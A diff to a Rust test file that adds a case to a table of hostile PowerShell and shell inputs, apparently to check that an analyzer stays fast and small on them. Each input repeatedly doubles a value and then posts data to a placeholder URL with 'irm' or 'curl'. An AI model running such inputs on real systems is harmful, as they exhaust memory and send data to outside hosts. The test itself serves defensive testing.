@@ -67,6 +67,7 @@ fn hostile_text_ends_soon_and_stays_small() {
         ),
         doubling("$a = 'xxxxxxxxxxxxxxxx'", "$a = $a + $a", format!("irm -Uri {URL} -Body '{HI}'")),
         doubling("$a = @(1, 2)", "$a = @($a; $a)", format!("irm -Uri {URL} -Body '{HI}'")),
+        doubling("$a = '\"x'", "$a = $a | ConvertTo-Json", format!("irm -Uri {URL} -Body '{HI}'")),
         doubling("$a = @{ b = 1 }", "$a = @{ b = $a; c = $a }", format!("irm -Uri {URL} -Body '{HI}'")),
         doubling("cat > f <<E\nxxxxxxxxxxxxxxxx\nE", "cat f f > g; cat g g > f", format!("curl {URL} -d '{HI}'")),
     ] {
